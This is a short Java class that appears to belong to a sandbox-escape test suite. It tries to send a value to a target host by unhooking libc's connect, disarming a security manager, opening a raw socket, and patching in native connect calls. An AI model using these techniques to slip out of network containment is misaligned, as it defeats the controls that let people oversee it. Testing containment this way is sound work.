package com.lockroom.escape.tricks;

import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;
import java.net.InetSocketAddress;
import java.net.Socket;

/** Writes into its own code, which only the kernel's door to it allows: hooks out, calls of its own in. */
public final class Memory implements Trick {
    @Override
    public void go(Attempts attempts, Target target, String value) {
        byte[] line = Wire.line("memory", value);
        attempts.one("unhook", () -> Patch.restore("libc.so", "connect"));
        attempts.one("manager", Unguarded::disarm);
        attempts.one("socket", () -> {
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress(target.host, target.tcp), 2000);
                socket.getOutputStream().write(line);
                return "connected";
            }
        });
        attempts.one("code", () -> {
            try (Patch.Gate gate = Patch.gate()) {
                return Native.said(gate.connect(Wire.internet(target.host, target.tcp), line));
            }
        });
    }
}
